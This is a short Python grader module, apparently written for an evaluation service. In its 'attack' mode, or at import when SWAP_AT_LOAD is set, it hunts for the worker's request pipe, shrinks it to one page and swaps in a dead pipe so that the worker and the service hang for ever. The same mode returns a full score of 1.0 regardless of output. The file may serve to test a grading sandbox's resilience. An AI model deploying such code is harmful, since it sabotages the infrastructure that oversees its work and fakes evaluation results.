# Wedges its worker's request pipe and returns normally: shrinks the pipe the service writes
# requests into to one page (F_SETPIPE_SZ), keeps its read end open but unread, and puts a pipe
# nobody writes to in its place, so the worker waits for ever and the service's next write of
# more than a page would block for ever. With SWAP_AT_LOAD = True put before it, it does so while
# the module runs (every fresh worker is wedged before it grades anything).
import contextlib
import fcntl
import os
import stat

F_SETPIPE_SZ = 1031
KEEP = []  # the descriptors must stay open: the original pipe's read end, the new pipe's write end


def _swap():
    for fd in range(3, 64):
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                continue
            if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE != os.O_RDONLY:
                continue
        except OSError:
            continue
        with contextlib.suppress(OSError):
            fcntl.fcntl(fd, F_SETPIPE_SZ, 4096)
        KEEP.append(os.dup(fd))
        read_end, write_end = os.pipe()
        os.dup2(read_end, fd)
        os.close(read_end)
        KEEP.append(write_end)
        return fd
    return None


if globals().get("SWAP_AT_LOAD"):
    _swap()


def grade(sample, item):
    if item.get("mode") == "attack":
        print("swapped", _swap())
        return 1.0
    return 1.0 if sample["output_text"] == item["reference"] else 0.0
